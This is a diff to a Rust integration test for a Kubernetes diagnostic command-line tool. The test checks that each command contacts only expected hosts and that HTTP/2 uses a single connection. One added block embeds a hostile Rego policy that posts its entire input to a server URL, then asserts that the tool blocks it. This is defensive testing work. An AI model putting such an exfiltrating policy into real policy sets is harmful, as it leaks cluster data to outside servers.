@@ -14,6 +14,7 @@ struct Fenced {
     code: i32,
     out: String,
     reached: BTreeSet<String>,
+    connections: usize,
 }
 
 /// `tcp 127.0.0.1:16443` of a URL.
@@ -42,11 +43,14 @@ fn fenced(folder: &Path, args: &[&str]) -> Fenced {
         .stdin(Stdio::null())
         .output()
         .unwrap();
-    let reached = fs::read_to_string(&list).unwrap_or_default().lines().map(str::to_owned).collect();
+    let listed = fs::read_to_string(&list).unwrap_or_default();
+    let listed: Vec<(&str, &str)> = listed.lines().map(|line| line.rsplit_once(' ').unwrap()).collect();
+    let reached = listed.iter().map(|(place, _)| (*place).to_owned()).collect();
+    let connections = listed.iter().map(|(_, times)| times.parse::<usize>().unwrap()).sum();
     // What is said comes first: a document ends the text.
     let out = String::from_utf8_lossy(&output.stderr).into_owned() + &String::from_utf8_lossy(&output.stdout);
     let _ = fs::remove_file(list);
-    Fenced { code: output.status.code().unwrap(), out, reached }
+    Fenced { code: output.status.code().unwrap(), out, reached, connections }
 }
 
 /// A repository at the forge with a kustomization of the fault.
@@ -86,6 +90,8 @@ fn no_run_reaches_a_host_that_the_doctor_did_not_name() {
 
     let scan = fenced(&work, &["scan", "-n", n, "--source"]);
     assert_eq!((scan.code, scan.reached), (1, set(&[&cluster])), "{}", scan.out);
+    // Over HTTP/2 all requests share one.
+    assert_eq!(scan.connections, 1, "{}", scan.out);
     let explain = fenced(&work, &["explain", "deployment/billing", "-n", n]);
     assert_eq!((explain.code, explain.reached), (0, set(&[&cluster, &model])), "{}", explain.out);
     let proposed =
@@ -96,6 +102,21 @@ fn no_run_reaches_a_host_that_the_doctor_did_not_name() {
     let report: Value = serde_json::from_str(&proposed.out[proposed.out.find('{').unwrap()..]).unwrap();
     assert!(report["proposals"][0]["pullRequest"].is_object(), "{}", proposed.out);
 
+    let status = fenced(&work, &["status", "--all"]);
+    assert_eq!((status.code, status.reached), (0, set(&[&cluster, &forge])), "{}", status.out);
+    let snapshot = fenced(&work, &["snapshot", "-n", n, "--file", "../snapshot.json"]);
+    assert_eq!((snapshot.code, snapshot.reached), (0, set(&[&cluster])), "{}", snapshot.out);
+    let tried = fenced(&work, &["propose", "deployment/billing", "-n", n, "--server-dry-run"]);
+    assert!(tried.reached.is_subset(&reached), "{:?}\n{}", tried.reached, tried.out);
+
+    // A policy that would send what it reads has nowhere to send it.
+    let hostile = "package main\n\nimport rego.v1\n\ndeny contains msg if {\n\tmsg := http.send({\"method\": \"post\", \
+                   \"url\": \"SERVER\", \"body\": input}).raw_body\n}\n";
+    fs::create_dir(work.join("../policies")).unwrap();
+    fs::write(work.join("../policies/send.rego"), hostile.replace("SERVER", &lab("AIFIX_LAB_GITEA_URL"))).unwrap();
+    let sent = fenced(&work, &["policy", "check", "k8s/billing.yaml", "--policy", "../policies"]);
+    assert_eq!((sent.code, sent.reached), (5, BTreeSet::new()), "{}", sent.out);
+
     let recorded = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/recorded/oom-killed");
     for offline in [
         &["scan", "--from", recorded.to_str().unwrap(), "--output", "json"][..],
@@ -103,6 +124,8 @@ fn no_run_reaches_a_host_that_the_doctor_did_not_name() {
         &["policy", "list"],
         &["policy", "check", "k8s/billing.yaml"],
         &["audit", "verify"],
+        &["audit", "patterns"],
+        &["policy", "suggest"],
         &["doctor", "--rbac", "-n", n],
         &["demo", "--yes"],
     ] {
